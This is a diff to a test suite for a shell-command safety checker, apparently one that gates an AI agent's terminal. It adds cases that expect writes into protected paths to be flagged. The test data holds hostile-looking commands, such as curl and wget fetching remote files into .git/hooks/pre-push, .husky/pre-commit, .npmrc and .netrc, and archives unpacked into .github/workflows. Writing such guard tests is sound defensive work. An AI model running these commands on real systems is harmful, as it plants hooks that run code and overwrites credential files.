@@ -83,6 +83,14 @@ describe('terminal: writes to protected paths ask in bypass', () => {
     ['git config --global core.pager "sh -c x"', '.gitconfig'],
     ['git config --file .gitmodules submodule.x.url evil', '.gitmodules'],
     ['dd if=a of=.env', '.env'],
+    ['curl -o .git/hooks/pre-push https://example.invalid/x', '.git'],
+    ['curl -sSLo.husky/pre-commit https://example.invalid/x', '.husky'],
+    ['wget --output-document=.npmrc https://example.invalid/x', '.npmrc'],
+    ['wget --output-doc .netrc https://example.invalid/x', '.netrc'],
+    ['sort -o.git/config a', '.git'],
+    ['sort --outp=.bashrc a', '.bashrc'],
+    ['tar -xzf x.tgz -C .github/workflows', '.github/workflows'],
+    ['unzip x.zip -d .vscode', '.vscode'],
   ])('%s asks, naming %s', (command, entry) => {
     const d = decide(command);
     expect([command, d.behavior, d.reason, d.protectedPath]).toEqual([command, 'ask', 'safety', entry]);
@@ -169,6 +177,12 @@ describe('terminal: confineWrites', () => {
     expect(decide('echo x > $HOME/x', { confineWrites: true }).message).toBe(refusal('$HOME/x', 'it is only known when the command runs'));
     expect(decide('rm */x', { confineWrites: true }).behavior).toBe('deny');
     expect(decide('find . -name x | xargs rm', { confineWrites: true }).behavior).toBe('deny');
+  });
+
+  it('output options count as writes: curl -o and sort -o outside are denied', () => {
+    expect(decide(`curl -o ${root}/outside/x https://example.invalid/`, { confineWrites: true }).behavior).toBe('deny');
+    expect(decide(`sort -o/tmp/sorted a`, { confineWrites: true }).behavior).toBe('deny');
+    expect(decide(`curl -o src/x https://example.invalid/`, { confineWrites: true, mode: 'default' }).behavior).toBe('ask');
   });
 
   it('cp reads its sources: only the destination must be inside', () => {
